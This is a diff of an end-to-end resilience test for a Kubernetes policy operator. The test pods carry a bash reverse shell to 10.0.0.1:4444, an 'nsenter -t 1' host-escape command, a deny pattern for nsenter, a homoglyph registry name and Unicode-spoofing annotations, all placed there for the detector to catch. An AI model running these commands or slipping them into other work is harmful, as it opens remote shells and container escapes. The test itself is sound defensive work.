@@ -3,67 +3,29 @@
 // and an API server restart is survived with every violating pod handled exactly once.
 import { expect } from 'chai';
 import { join } from 'node:path';
-import { freshNamespace, kubectl, repoRoot, run, waitFor } from '../cluster.ts';
-import { OperatorProcess, applyPolicy, operatorAccount, type LogLine } from './harness.ts';
+import { freshNamespace, repoRoot, run, waitFor } from '../cluster.ts';
+import { applyPolicy, type LogLine, type OperatorProcess } from './harness.ts';
+import {
+  BASELINE,
+  DETECTED_AT,
+  PRIVILEGED,
+  VIOLATING,
+  VIOLATIONS,
+  annotated,
+  container,
+  create,
+  get,
+  pod,
+  printLogOnFailure,
+  sleep,
+  start,
+  violationEvents,
+  type PodJson,
+} from './objects.ts';
 
-const VIOLATIONS = 'deployguard.dev/violations';
-const DETECTED_AT = 'deployguard.dev/detected-at';
-
-interface PodJson {
-  metadata: {
-    annotations?: Record<string, string>;
-    labels?: Record<string, string>;
-    resourceVersion: string;
-  };
-  status?: { phase?: string };
-}
-
-async function getPod(ns: string, name: string): Promise<PodJson | undefined> {
-  const r = await kubectl(['get', 'pod', name, '-n', ns, '-o', 'json'], { allowFail: true });
-  return r.code === 0 ? (JSON.parse(r.stdout) as PodJson) : undefined;
-}
-
-async function createPod(
-  ns: string,
-  name: string,
-  spec: Record<string, unknown>,
-  metadata: Record<string, unknown> = {},
-): Promise<void> {
-  await kubectl(['create', '-n', ns, '-f', '-'], {
-    input: JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name, ...metadata }, spec }),
-  });
-}
-
-const container = (extra: Record<string, unknown> = {}): Record<string, unknown> => ({
-  name: 'c',
-  image: 'registry.example.com/app:1.0',
-  ...extra,
-});
-const privileged = { securityContext: { privileged: true } };
-
-async function annotated(ns: string, name: string, timeoutMs = 20_000): Promise<string> {
-  return waitFor(
-    `${ns}/${name} annotated`,
-    async () => (await getPod(ns, name))?.metadata.annotations?.[VIOLATIONS],
-    timeoutMs,
-  );
-}
-
-async function violationEvents(ns: string, pod: string): Promise<number> {
-  const r = await kubectl([
-    'get',
-    'events',
-    '-n',
-    ns,
-    '--field-selector',
-    `reason=PolicyViolation,involvedObject.name=${pod}`,
-    '-o',
-    'json',
-  ]);
-  return (JSON.parse(r.stdout) as { items: { count?: number }[] }).items.reduce(
-    (n, e) => n + (e.count ?? 1),
-    0,
-  );
+/** The pod's violations annotation, once the operator wrote it. */
+async function violations(ns: string, name: string, timeoutMs = 20_000): Promise<string> {
+  return (await annotated(ns, name, timeoutMs)).metadata.annotations?.[VIOLATIONS] ?? '';
 }
 
 async function healthz(op: OperatorProcess): Promise<number> {
@@ -97,6 +59,7 @@ function forgiveStartupForbidden(op: OperatorProcess, from: number, to: number):
 
 describe('operator: resilience', function () {
   this.timeout(120_000);
+  afterEach(printLogOnFailure);
 
   it('judges hostile pods the API server accepts without crashing or stalling', async () => {
     const own = await freshNamespace('dg-op');
@@ -106,17 +69,14 @@ describe('operator: resilience', function () {
       mode: 'Audit',
       match: { namespaces: [ns] },
       rules: {
-        podSecurity: { level: 'baseline' },
+        ...BASELINE,
         indicators: { enabled: true },
         images: { allowedRegistries: ['registry.example.com/'] },
         // Catastrophic for a backtracking engine over the long args below; linear under RE2.
         commands: { deniedPatterns: ['(x+x+)+y', '(?i)nsenter\\s+-t\\s*1'] },
       },
     });
-    const op = await OperatorProcess.start({
-      namespace: own,
-      kubeconfig: await operatorAccount(own),
-    });
+    const op = await start(own);
     const alive = watchExit(op);
 
     const env = Array.from({ length: 1000 }, (_, i) => ({
@@ -124,44 +84,54 @@ describe('operator: resilience', function () {
       value: `\u202e${'é'.repeat(i % 50)}\u200d😈${i}`,
     }));
     const shell = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';
-    await createPod(ns, 'many-env', { containers: [container({ env, ...privileged })] });
+    await create(ns, pod('many-env', { env, ...PRIVILEGED }));
     // ~100 KB of padding in front of a reverse shell: the finding at the end must not be lost.
-    await createPod(ns, 'long-args', {
-      containers: [
-        container({ command: ['sh', '-c'], args: [`${'x'.repeat(100_000)}; ${shell}`] }),
-      ],
-    });
-    // More args than the engine's per-list bound, the payload last: judged fail-closed, not skipped.
-    await createPod(ns, 'many-args', {
-      containers: [
-        container({
-          command: ['sh', '-c'],
-          args: [...Array(1100).fill('true'), 'nsenter -t 1 -m sh'],
-        }),
-      ],
-    });
-    // Bidi overrides, zero-width joiners, emoji, NUL and 60 KB in annotation values; a homoglyph registry.
-    await createPod(
+    await create(
       ns,
-      'unicode',
-      { containers: [container({ image: 'regіstry.example.com/app:1.0' })] },
-      {
-        annotations: {
-          'example.com/rtl': '\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d \u0000 👩‍👩‍👧',
-          'example.com/big': 'ä'.repeat(30_000),
+      pod('long-args', { command: ['sh', '-c'], args: [`${'x'.repeat(100_000)}; ${shell}`] }),
+    );
+    // More args than the engine's per-list bound, the payload last: judged fail-closed, not skipped.
+    await create(
+      ns,
+      pod('many-args', {
+        command: ['sh', '-c'],
+        args: [...Array(1100).fill('true'), 'nsenter -t 1 -m sh'],
+      }),
+    );
+    // Bidi overrides, zero-width joiners, emoji, NUL and 60 KB in annotation values; a homoglyph registry.
+    await create(
+      ns,
+      pod(
+        'unicode',
+        { image: 'regіstry.example.com/app:1.0' },
+        {},
+        {
+          annotations: {
+            'example.com/rtl': '\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d \u0000 👩‍👩‍👧',
+            'example.com/big': 'ä'.repeat(30_000),
+          },
         },
-      },
+      ),
     );
     // Sixty privileged containers in one pod.
-    await createPod(ns, 'wide', {
-      containers: Array.from({ length: 60 }, (_, i) => container({ name: `c${i}`, ...privileged })),
-    });
+    await create(
+      ns,
+      pod(
+        'wide',
+        {},
+        {
+          containers: Array.from({ length: 60 }, (_, i) =>
+            container({ name: `c${i}`, ...PRIVILEGED }),
+          ),
+        },
+      ),
+    );
 
-    expect(await annotated(ns, 'many-env')).to.contain('"rule":"pss.privileged"');
-    expect(await annotated(ns, 'long-args')).to.contain('"rule":"indicator.reverseShell"');
-    expect(await annotated(ns, 'many-args')).to.contain(`"policy":"${policy}"`);
-    expect(await annotated(ns, 'unicode')).to.contain('"rule":"image.registry"');
-    expect(await annotated(ns, 'wide')).to.equal(
+    expect(await violations(ns, 'many-env')).to.contain('"rule":"pss.privileged"');
+    expect(await violations(ns, 'long-args')).to.contain('"rule":"indicator.reverseShell"');
+    expect(await violations(ns, 'many-args')).to.contain(`"policy":"${policy}"`);
+    expect(await violations(ns, 'unicode')).to.contain('"rule":"image.registry"');
+    expect(await violations(ns, 'wide')).to.equal(
       `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`,
     );
     for (const pod of ['many-env', 'long-args', 'many-args', 'unicode', 'wide'])
@@ -180,31 +150,36 @@ describe('operator: resilience', function () {
     await applyPolicy(own, policy, {
       mode: 'Audit',
       match: { namespaces: [ns] },
-      rules: { podSecurity: { level: 'baseline' } },
+      rules: BASELINE,
     });
-    const op = await OperatorProcess.start({
-      namespace: own,
-      kubeconfig: await operatorAccount(own),
-    });
+    const op = await start(own);
     const truth = `[{"policy":"${policy}","rule":"pss.privileged","severity":"critical"}]`;
     // The creator writes the operator's own marks: the operator never wrote them, so they prove nothing.
-    await createPod(
+    await create(
       ns,
-      'spoofed',
-      { containers: [container(privileged)] },
-      {
-        annotations: { [VIOLATIONS]: truth, [DETECTED_AT]: '2020-01-01T00:00:00Z' },
-        labels: { 'deployguard.dev/violating': 'true' },
-      },
+      pod(
+        'spoofed',
+        PRIVILEGED,
+        {},
+        {
+          annotations: { [VIOLATIONS]: truth, [DETECTED_AT]: '2020-01-01T00:00:00Z' },
+          labels: { [VIOLATING]: 'true' },
+        },
+      ),
     );
-    await createPod(
+    await create(
       ns,
-      'garbage',
-      { containers: [container(privileged)] },
-      { annotations: { [VIOLATIONS]: '{{{ not json', [DETECTED_AT]: 'yesterday' } },
+      pod(
+        'garbage',
+        PRIVILEGED,
+        {},
+        {
+          annotations: { [VIOLATIONS]: '{{{ not json', [DETECTED_AT]: 'yesterday' },
+        },
+      ),
     );
     await waitFor('garbage mark replaced', async () => {
-      const a = (await getPod(ns, 'garbage'))?.metadata.annotations ?? {};
+      const a = (await get<PodJson>('pod', 'garbage', ns))?.metadata.annotations ?? {};
       return a[VIOLATIONS] === truth && /^\d{4}-/.test(a[DETECTED_AT] ?? '');
     });
     expect(await violationEvents(ns, 'garbage')).to.equal(1);
@@ -226,19 +201,16 @@ describe('operator: resilience', function () {
     await applyPolicy(own, `apirestart-${ns}`, {
       mode: 'Audit',
       match: { namespaces: [ns] },
-      rules: { podSecurity: { level: 'baseline' } },
+      rules: BASELINE,
     });
-    const op = await OperatorProcess.start({
-      namespace: own,
-      kubeconfig: await operatorAccount(own),
-    });
+    const op = await start(own);
     const alive = watchExit(op);
-    await createPod(ns, 'before-1', { containers: [container(privileged)] });
-    await createPod(ns, 'before-2', { containers: [container(privileged)] });
+    await create(ns, pod('before-1', PRIVILEGED));
+    await create(ns, pod('before-2', PRIVILEGED));
     const marks: Record<string, string | undefined> = {};
     for (const p of ['before-1', 'before-2']) {
-      await annotated(ns, p);
-      marks[p] = JSON.stringify((await getPod(ns, p))?.metadata.annotations);
+      await violations(ns, p);
+      marks[p] = JSON.stringify((await get<PodJson>('pod', p, ns))?.metadata.annotations);
     }
 
     // Watch /healthz while the API server is away: it may flip, the process must not die.
@@ -248,7 +220,7 @@ describe('operator: resilience', function () {
     const poller = (async () => {
       while (polling) {
         health.push(await healthz(op));
-        await new Promise((r) => setTimeout(r, 250));
+        await sleep(250);
       }
     })();
     try {
@@ -259,20 +231,22 @@ describe('operator: resilience', function () {
           timeoutMs: 120_000,
         },
       );
-      await createPod(ns, 'after-1', { containers: [container(privileged)] });
-      await createPod(ns, 'after-2', { containers: [container(privileged)] });
+      await create(ns, pod('after-1', PRIVILEGED));
+      await create(ns, pod('after-2', PRIVILEGED));
       // Watches resume after their backoff (at most 30 s).
-      await annotated(ns, 'after-1', 40_000);
-      await annotated(ns, 'after-2', 10_000);
+      await violations(ns, 'after-1', 40_000);
+      await violations(ns, 'after-2', 10_000);
       forgiveStartupForbidden(op, restartFrom, Date.now());
       await waitFor('healthz 200 again', async () => (await healthz(op)) === 200, 30_000);
     } finally {
       polling = false;
       await poller;
     }
-    await new Promise((r) => setTimeout(r, 1500));
+    await sleep(1500);
     for (const p of ['before-1', 'before-2']) {
-      expect(JSON.stringify((await getPod(ns, p))?.metadata.annotations), p).to.equal(marks[p]);
+      expect(JSON.stringify((await get<PodJson>('pod', p, ns))?.metadata.annotations), p).to.equal(
+        marks[p],
+      );
       expect(await violationEvents(ns, p), p).to.equal(1);
     }
     for (const p of ['after-1', 'after-2']) expect(await violationEvents(ns, p), p).to.equal(1);
